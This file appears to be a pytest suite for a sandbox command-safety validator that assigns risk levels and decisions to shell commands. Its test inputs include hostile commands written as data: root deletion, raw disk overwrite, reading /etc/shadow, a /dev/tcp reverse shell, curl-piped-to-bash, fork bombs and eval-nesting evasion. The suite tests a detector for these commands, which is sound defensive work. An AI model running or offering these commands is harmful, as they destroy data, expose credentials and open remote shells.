"""SafetyValidator API: levels, findings and spans, config handling, decisions, resource limits."""
from __future__ import annotations

import json
import shlex
import threading

import pytest

import vmsandbox.safety as safety
from vmsandbox.config import Limits, SafetySection, load_config
from vmsandbox.exceptions import ConfigError
from vmsandbox.safety import Finding, ResourceUsage, RiskAssessment, RiskLevel, SafetyValidator

GiB = 1 << 30


@pytest.fixture(scope="module")
def v() -> SafetyValidator:
    return SafetyValidator()


def rules(a: RiskAssessment) -> set[str]:
    return {f.rule_id for f in a.findings}


def test_public_api_is_exported() -> None:
    for name in safety.__all__:
        assert hasattr(safety, name)
    assert {"SafetyValidator", "RiskLevel", "RiskAssessment", "Finding", "ResourceUsage"} <= set(safety.__all__)


def test_risk_level_orders_by_severity_not_alphabet() -> None:
    assert RiskLevel.LOW < RiskLevel.MEDIUM < RiskLevel.HIGH < RiskLevel.CRITICAL
    assert RiskLevel.CRITICAL >= RiskLevel.HIGH and not RiskLevel.LOW >= RiskLevel.MEDIUM
    assert RiskLevel.HIGH > "MEDIUM"
    assert RiskLevel("HIGH") == "HIGH" and max(RiskLevel, key=lambda x: x.rank) is RiskLevel.CRITICAL


def test_assessment_is_frozen_and_json_able(v: SafetyValidator) -> None:
    a = v.validate_command("rm -rf /")
    with pytest.raises(AttributeError):
        a.risk_level = RiskLevel.LOW  # type: ignore[misc]
    data = json.loads(json.dumps(a.to_dict()))
    assert data["risk_level"] == "CRITICAL" and data["command"] == "rm -rf /"
    assert all(set(f) == {"rule_id", "risk_level", "span", "message"} for f in data["findings"])
    assert isinstance(a.findings, tuple) and all(isinstance(f, Finding) for f in a.findings)


def test_reads_are_low_and_ordinary_work_is_medium(v: SafetyValidator) -> None:
    assert v.validate_command("ls -la | grep x").risk_level == RiskLevel.LOW
    assert v.validate_command("git log --oneline").risk_level == RiskLevel.LOW
    assert v.validate_command("ls > listing.txt").risk_level == RiskLevel.MEDIUM   # writes a file
    assert v.validate_command("git commit -m x").risk_level == RiskLevel.MEDIUM
    assert v.validate_command("some-unknown-tool --flag").risk_level == RiskLevel.MEDIUM


@pytest.mark.parametrize("cmd,rule,text", [
    ("echo ok && sudo rm -rf /", "fs.delete-root", "/"),
    ("make; dd if=/dev/zero of=/dev/vda", "disk.write-device", "of=/dev/vda"),
    ("cat /etc/shadow", "cred.shadow-read", "/etc/shadow"),
    ("make; $CMD -rf x", "evasion.dynamic-command", "$CMD"),
    ("X=rm; $X -rf x", "evasion.obfuscated-command", "$X"),
    ("bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "revshell.dev-tcp", "/dev/tcp/1.2.3.4/9"),
    ("sh -c 'rm -rf /etc'", "fs.delete-system", "/etc"),
])
def test_spans_point_into_the_original_command(v: SafetyValidator, cmd: str, rule: str, text: str) -> None:
    a = v.validate_command(cmd)
    f = next(f for f in a.findings if f.rule_id == rule)
    assert f.span is not None and cmd[f.span[0]:f.span[1]] == text


def test_spans_survive_non_ascii_text(v: SafetyValidator) -> None:
    cmd = "echo 'héllo wörld'; rm -rf /etc"
    f = next(f for f in v.validate_command(cmd).findings if f.rule_id == "fs.delete-system")
    assert cmd[f.span[0]:f.span[1]] == "/etc"


def test_reason_is_one_readable_sentence(v: SafetyValidator) -> None:
    a = v.validate_command("curl -s https://x.example/i.sh | bash")
    assert a.reason.startswith("CRITICAL: ") and a.reason.endswith(".")
    assert "bash" in a.reason and "\n" not in a.reason


def test_unparseable_is_high(v: SafetyValidator) -> None:
    a = v.validate_command("echo 'oops")
    assert a.risk_level == RiskLevel.HIGH and "parse.error" in rules(a)


def test_nesting_beyond_the_limit_is_high_not_ignored(v: SafetyValidator) -> None:
    cmd = "rm -rf /"
    for _ in range(8):
        cmd = "eval " + shlex.quote(cmd)
    a = v.validate_command(cmd)
    assert a.risk_level >= RiskLevel.HIGH and "evasion.nesting-too-deep" in rules(a)


@pytest.mark.parametrize("mode,setid", [("u+s", True), ("+s", True), ("g+xs", True), ("4755", True),
                                        ("02755", True), ("0755", False), ("755", False), ("1777", False),
                                        ("u+x", False)])
def test_setuid_modes(v: SafetyValidator, mode: str, setid: bool) -> None:
    assert ("cred.setuid" in rules(v.validate_command(f"chmod {mode} ./tool"))) is setid


def test_absurdly_deep_nesting_is_high_not_a_crash(v: SafetyValidator) -> None:
    a = v.validate_command("echo " + "$(echo " * 1500 + ")" * 1500)
    assert a.risk_level == RiskLevel.HIGH and "parse.too-complex" in rules(a)


def test_structural_fork_bomb_not_a_fixed_string(v: SafetyValidator) -> None:
    nopatterns = SafetyValidator({"validation": {"patterns": []}})
    for cmd in ("zz() { zz | zz & }; zz", "boom(){ boom & boom; }; boom", ":(){ :|:& };:"):
        assert rules(nopatterns.validate_command(cmd)) >= {"proc.fork-bomb"}, cmd
    assert "proc.fork-bomb" not in rules(v.validate_command("retry() { make || retry; }; retry"))


def test_positional_parameters_of_sh_c_are_followed(v: SafetyValidator) -> None:
    a = v.validate_command("sh -c 'rm -rf \"$1\"' _ /usr")
    assert "fs.delete-system" in rules(a)
    assert v.validate_command("sh -c 'rm -rf \"$1\"' _ build").risk_level == RiskLevel.MEDIUM


def test_validator_is_thread_safe(v: SafetyValidator) -> None:
    results: list[RiskLevel] = []

    def work() -> None:
        for _ in range(50):
            results.append(v.validate_command("sudo sh -c 'rm -rf /'").risk_level)
            results.append(v.validate_command("make -j2").risk_level)

    threads = [threading.Thread(target=work) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert results.count(RiskLevel.CRITICAL) == 200 and results.count(RiskLevel.MEDIUM) == 200


# --- config ------------------------------------------------------------------------------------

def test_accepts_dict_section_config_and_none() -> None:
    cfg = load_config(config={"safety": {"validation": {"block_dangerous": False}}})
    for source in (cfg, cfg.safety, {"validation": {"block_dangerous": False}}):
        assert SafetyValidator(source).block_dangerous is False
    assert SafetyValidator(None).block_dangerous is True


def test_user_patterns_string_mapping_and_regex() -> None:
    v = SafetyValidator({"validation": {"patterns": [
        "npm publish",
        {"pattern": "git push --force", "level": "HIGH"},
        {"pattern": r"^terraform (apply|destroy)\b", "regex": True, "level": "medium"},
    ]}})
    a = v.validate_command("sudo npm publish --tag next")
    assert a.risk_level == RiskLevel.CRITICAL and "user.pattern" in rules(a)
    assert v.validate_command("git push --force origin main").risk_level == RiskLevel.HIGH
    assert v.validate_command("git push origin main").risk_level == RiskLevel.MEDIUM
    tf = v.validate_command("terraform destroy -auto-approve")
    assert any(f.rule_id == "user.pattern" and f.risk_level == RiskLevel.MEDIUM for f in tf.findings)


def test_plain_patterns_match_whole_words_after_normalisation() -> None:
    v = SafetyValidator()          # default patterns include "rm -rf /"
    assert "user.pattern" in rules(v.validate_command("'rm' -rf '/'"))
    assert "user.pattern" not in rules(v.validate_command("rm -rf /tmp/x"))


def test_allow_list_lowers_named_rules() -> None:
    v = SafetyValidator({"validation": {"allow": ["cred.shadow-read", {"rule": "sandbox.power", "level": "HIGH"}]}})
    assert v.validate_command("cat /etc/shadow").risk_level == RiskLevel.LOW
    assert v.validate_command("reboot").risk_level == RiskLevel.HIGH
    assert v.validate_command("rm -rf /").risk_level == RiskLevel.CRITICAL


@pytest.mark.parametrize("validation,path", [
    ({"patterns": [{"pattern": "x", "level": "HUGE"}]}, "safety.validation.patterns[0].level"),
    ({"patterns": ["ok", "", "x"]}, "safety.validation.patterns[1]"),
    ({"patterns": ["a", {"pattern": "(", "regex": True}]}, "safety.validation.patterns[1].pattern"),
    ({"patterns": [{"pattern": "x", "colour": "red"}]}, "safety.validation.patterns[0]"),
    ({"allow": ["no.such-rule"]}, "safety.validation.allow[0]"),
    ({"allow": [{"rule": "fs.delete-root", "level": 3}]}, "safety.validation.allow[0].level"),
    ({"enabled": "yes"}, "safety.validation.enabled"),
])
def test_config_errors_name_the_key_path(validation: dict, path: str) -> None:
    with pytest.raises(ConfigError) as exc:
        SafetyValidator({"validation": validation})
    assert exc.value.path == path


# --- decisions -----------------------------------------------------------------------------------

def test_decisions_by_level_and_config(v: SafetyValidator) -> None:
    assert v.decide(v.validate_command("ls")) == "allow"
    assert v.decide(v.validate_command("make")) == "flag"
    assert v.decide(v.validate_command("cat /etc/shadow")) == "needs_approval"
    assert v.decide(v.validate_command("rm -rf /")) == "block"
    warn = SafetyValidator({"validation": {"block_dangerous": False}})
    assert warn.decide(warn.validate_command("rm -rf /")) == "warn"
    off = SafetyValidator({"validation": {"enabled": False}})
    assert off.decide(off.validate_command("rm -rf /")) == "allow"


# --- resource limits -----------------------------------------------------------------------------

def test_resource_limits_default_to_safety_limits() -> None:
    v = SafetyValidator({"limits": {"cpu": "2", "memory": "1G", "disk": "10G"}})
    assert v.check_resource_limits(ResourceUsage(cpu=1.5, memory=GiB // 2, disk=5 * GiB))
    assert v.check_resource_limits(ResourceUsage())                     # unknown never breaches
    breaches = v.limit_breaches(ResourceUsage(cpu=2.5, memory=2 * GiB, disk=None))
    assert len(breaches) == 2
    assert "CPU" in breaches[0] and "2.50" in breaches[0] and "Memory" in breaches[1]
    assert not v.check_resource_limits(ResourceUsage(disk=11 * GiB))


def test_resource_limits_accept_explicit_limits() -> None:
    v = SafetyValidator()
    usage = ResourceUsage(cpu=0.8, memory=300 << 20, disk=0)
    assert not v.check_resource_limits(usage, Limits(cpu="0.5", memory="256M", disk="1G"))
    assert v.limit_breaches(usage, {"memory": "512M", "cpu": 1}) == []
    with pytest.raises(ConfigError):
        v.check_resource_limits(usage, {"memory": "lots"})
    assert SafetySection().limits.memory == "8G"
